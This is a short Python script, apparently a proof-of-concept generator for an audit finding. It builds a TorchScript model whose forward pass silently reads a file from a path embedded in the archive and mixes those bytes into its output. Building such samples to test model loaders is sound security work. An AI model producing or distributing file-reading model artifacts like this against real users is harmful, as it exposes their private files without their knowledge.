#!/usr/bin/env python3
"""Writes a model whose code reads a file of the user's (issue 22, finding 5): its forward calls
torch.from_file on SECRET, a path written into the archive, and adds the bytes to its input.

    /usr/bin/python3 make_file_reader.py SECRET OUT.pt
"""
import os
import sys
import tempfile

import torch

SOURCE = '''
import torch

class Reader(torch.nn.Module):
    def forward(self, x):
        secret = torch.from_file({path!r}, size=16, dtype=torch.uint8)
        return x + secret.float()
'''


def main():
    secret, out = sys.argv[1], sys.argv[2]
    with tempfile.TemporaryDirectory() as d:
        path = os.path.join(d, "reader.py")
        with open(path, "w") as f:
            f.write(SOURCE.format(path=secret))
        sys.path.insert(0, d)
        import reader  # noqa: E402 - written just now
        torch.jit.script(reader.Reader()).save(out)


if __name__ == "__main__":
    main()
